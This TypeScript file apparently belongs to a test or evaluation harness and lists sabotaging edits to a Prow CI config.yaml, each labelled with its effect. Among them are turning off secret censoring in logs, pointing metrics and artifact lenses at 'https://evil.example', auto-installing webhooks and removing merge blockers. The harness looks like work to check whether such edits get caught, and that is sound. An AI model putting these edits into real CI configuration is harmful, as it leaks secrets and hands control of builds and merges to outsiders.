import { join } from 'node:path';
import type { Trick } from '../trick.js';
import { rehearsed } from './images.js';

/** Configuration of Prow's that no canary goes otherwise by, each rehearsed with the bump. */
export const CONFIGURED_TRICKS: readonly Trick[] = [
  configured('subscriptions', 'lets whoever publishes start any job', 'pubsub_subscriptions: { evil: [sub] }'),
  configured(
    'gerrit-queries',
    'has tide merge anything of Gerrit’s',
    'tide: { gerrit: { queries: { "https://x": { "*": {} } } } }',
  ),
  configured('blocker-label', 'lets nothing block merges', 'tide: { blocker_label: nothing }'),
  configured('merge-method', 'has tide merge in another way', 'tide: { merge_method: { example/x: rebase } }'),
  configured(
    'uncensored',
    'leaves secrets in logs',
    'plank: { default_decoration_configs: { "*": { censor_secrets: false } } }',
  ),
  configured('sinker', 'has pods swept as soon as they end', 'sinker: { terminated_pod_ttl: 1s, max_pod_age: 1m }'),
  configured(
    'timeouts',
    'gives up on pods that production’s clusters take long to start',
    'plank: { pod_pending_timeout: 1s }',
  ),
  configured(
    'one-at-a-time',
    'lets a rehearsal’s few jobs run at once and not production’s',
    'plank: { max_concurrency: 40 }',
  ),
  configured(
    'lens-elsewhere',
    'has artifacts shown by somebody else',
    'deck: { spyglass: { lenses: [{ lens: { name: metadata }, remote_config: { endpoint: "https://evil.example" }, required_files: [started.json] }] } }',
  ),
  configured(
    'slack',
    'tells everybody of every job',
    'slack_reporter_configs: { "*": { channel: everybody, job_types_to_report: [postsubmit] } }',
  ),
  configured(
    'webhooks',
    'has Prow put webhooks into repositories of others',
    'managed_webhooks: { auto_accept_invitation: true, org_repo_config: { evil: { token_created_after: "2017-10-02T15:00:00Z" } } }',
  ),
  configured('metrics', 'sends metrics elsewhere', 'push_gateway: { endpoint: "https://evil.example", interval: 1s }'),
];

function configured(id: string, says: string, text: string): Trick {
  return rehearsed(`configured-${id}`, says, 'not-staged', (world) => {
    world.edit(join(world.head, 'config.yaml'), 'log_level: info', `log_level: info\n${text}`);
  });
}
